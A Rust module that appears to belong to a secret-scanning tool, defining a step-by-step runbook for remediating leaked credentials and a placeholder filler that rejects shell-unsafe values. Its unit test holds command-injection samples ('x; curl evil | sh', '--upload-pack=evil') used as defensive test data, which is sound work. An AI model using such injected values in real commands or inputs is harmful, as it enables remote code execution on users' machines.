//! The way out of a leak, step by step.

use std::{borrow::Cow, fmt};

use serde::{Deserialize, Serialize};

/// How to make a leaked secret harmless, in the order to do it.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Runbook {
    /// What to use instead of a long-lived secret.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub short_lived: Option<String>,
    /// In the order to do them.
    #[serde(rename = "step")]
    pub steps: Vec<Step>,
}

/// One thing to do.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Step {
    /// What the step is for.
    pub phase: Phase,
    /// Imperative, one or two sentences.
    #[serde(rename = "do")]
    pub action: String,
    /// Where in the provider's web pages.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub console: Option<String>,
    /// A command to type.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cli: Option<String>,
    /// A request to send.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub api: Option<String>,
    /// The page it was read from.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    /// Good practice rather than a vendor's statement.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub general: bool,
}

/// The six phases, in the order to do them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Phase {
    /// Stop the bleeding.
    Contain,
    /// Get a new one, smaller and shorter-lived.
    Replace,
    /// Put it where the old one was used.
    Deploy,
    /// Kill the old one for good.
    Revoke,
    /// See what was done with it.
    Audit,
    /// So that it does not come back.
    Prevent,
}

impl Phase {
    /// Every phase, in order.
    pub const ALL: [Self; 6] = [Self::Contain, Self::Replace, Self::Deploy, Self::Revoke, Self::Audit, Self::Prevent];

    /// The word used in rules and reports.
    pub fn word(self) -> &'static str {
        match self {
            Self::Contain => "contain",
            Self::Replace => "replace",
            Self::Deploy => "deploy",
            Self::Revoke => "revoke",
            Self::Audit => "audit",
            Self::Prevent => "prevent",
        }
    }
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(self.word())
    }
}

/// The names that a step may use between braces; never the secret.
const NAMES: [&str; 6] = ["key_id", "account", "path", "env_var", "user", "host"];

/// What is known of a finding, to fill a step's placeholders with.
#[derive(Debug, Clone, Default)]
pub struct Placeholders(Vec<(&'static str, String)>);

impl Placeholders {
    /// Sets a placeholder. Names that no step may use are passed over, and so are values that a
    /// shell could take for more than a word: they come from the scanned repository and end in
    /// commands that people copy.
    pub fn set(&mut self, name: &str, value: &str) {
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._@:/+=,-".contains(&byte);
        let harmless = (1..=200).contains(&value.len()) && value.bytes().all(plain) && !value.starts_with('-');
        if let Some(known) = NAMES.iter().find(|known| **known == name && harmless) {
            self.0.retain(|(name, _)| name != known);
            self.0.push((known, value.to_owned()));
        }
    }

    /// Fills a text; a placeholder without a value becomes an upper-case word (`KEY_ID`).
    pub fn fill<'a>(&self, text: &'a str) -> Cow<'a, str> {
        if !text.contains('{') {
            return Cow::Borrowed(text);
        }
        let mut text = text.to_owned();
        for name in NAMES {
            let value = self.0.iter().find(|(known, _)| *known == name);
            let value = value.map_or_else(|| name.to_uppercase(), |(_, value)| value.clone());
            text = text.replace(&format!("{{{name}}}"), &value);
        }
        Cow::Owned(text)
    }

    /// The step with every text filled.
    pub fn fill_step(&self, step: &Step) -> Step {
        let fill = |text: &Option<String>| text.as_deref().map(|text| self.fill(text).into_owned());
        Step {
            action: self.fill(&step.action).into_owned(),
            console: fill(&step.console),
            cli: fill(&step.cli),
            api: fill(&step.api),
            ..step.clone()
        }
    }
}

/// A placeholder that no step may use, if the text has one.
pub(super) fn unknown_placeholder(text: &str) -> Option<&str> {
    text.split('{').skip(1).find_map(|rest| {
        let (name, _) = rest.split_once('}')?;
        let is_word = !name.is_empty() && name.bytes().all(|b| b.is_ascii_lowercase() || b == b'_');
        (is_word && !NAMES.contains(&name)).then_some(name)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_from_the_repository_never_becomes_a_command() {
        let mut known = Placeholders::default();
        known.set("key_id", "AKIA1234");
        known.set("user", "x; curl evil | sh");
        known.set("host", "--upload-pack=evil");
        assert_eq!(known.fill("aws {key_id} {user} {host}"), "aws AKIA1234 USER HOST");
    }
}
